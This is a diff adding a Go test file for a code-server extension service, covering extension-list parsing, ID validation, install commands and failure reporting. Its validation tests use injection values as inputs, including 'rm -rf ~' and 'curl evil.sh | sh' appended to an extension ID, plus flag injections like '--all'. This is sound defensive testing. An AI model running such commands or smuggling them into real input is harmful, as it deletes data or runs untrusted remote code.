@@ -0,0 +1,87 @@
+package services
+
+import (
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/The-Skyscape/devtools/pkg/testutils"
+)
+
+// fakeExtensionExec answers code-server commands with output and err,
+// returning the commands it was given.
+func fakeExtensionExec(t *testing.T, output string, err error) *[]string {
+	var commands []string
+	original := extensionExec
+	extensionExec = func(command string) (string, error) {
+		commands = append(commands, command)
+		return output, err
+	}
+	t.Cleanup(func() { extensionExec = original })
+	return &commands
+}
+
+func TestParseExtensions(t *testing.T) {
+	output := "ms-python.python@2024.2.1\nGolang.go@0.41.0\n\nwarning: something\nesbenp.prettier-vscode@10.1.0\n"
+
+	var list []string
+	for _, ext := range parseExtensions(output) {
+		list = append(list, ext.ID+"="+ext.Version)
+	}
+	testutils.AssertEqual(t, "esbenp.prettier-vscode=10.1.0,Golang.go=0.41.0,ms-python.python=2024.2.1", strings.Join(list, ","))
+}
+
+func TestValidExtensionID(t *testing.T) {
+	testCases := []struct {
+		id    string
+		valid bool
+	}{
+		{"golang.go", true},
+		{"ms-vscode.cpptools-extension-pack", true},
+		{"esbenp.prettier-vscode", true},
+		{"golang", false},
+		{"golang.go; rm -rf ~", false},
+		{"--force", false},
+		{".go", false},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.id, func(t *testing.T) {
+			testutils.AssertEqual(t, tc.valid, ValidExtensionID(tc.id))
+		})
+	}
+}
+
+func TestInstallExtension(t *testing.T) {
+	commands := fakeExtensionExec(t, "Extension 'golang.go' v0.41.0 was successfully installed.", nil)
+	testutils.AssertEqual(t, nil, InstallExtension("golang.go"))
+	testutils.AssertEqual(t, "code-server --force --install-extension golang.go 2>&1", (*commands)[0])
+}
+
+func TestInstallExtensionReportsFailures(t *testing.T) {
+	testCases := []struct {
+		name   string
+		output string
+		err    error
+	}{
+		{"unknown ID exiting 0", "Installing extensions...\nExtension 'acme.nope' not found.", nil},
+		{"marketplace unreachable", "Installing extensions...\nError: getaddrinfo ENOTFOUND open-vsx.org", errors.New("exit status 1")},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			fakeExtensionExec(t, tc.output, tc.err)
+			err := InstallExtension("acme.nope")
+			testutils.AssertEqual(t, true, err != nil)
+			lines := strings.Split(tc.output, "\n")
+			testutils.AssertEqual(t, "failed to install acme.nope: "+lines[len(lines)-1], err.Error())
+		})
+	}
+}
+
+func TestInstallExtensionRefusesInvalidIDs(t *testing.T) {
+	commands := fakeExtensionExec(t, "", nil)
+	testutils.AssertEqual(t, true, InstallExtension("golang.go && curl evil.sh | sh") != nil)
+	testutils.AssertEqual(t, true, UninstallExtension("--all") != nil)
+	testutils.AssertEqual(t, 0, len(*commands))
+}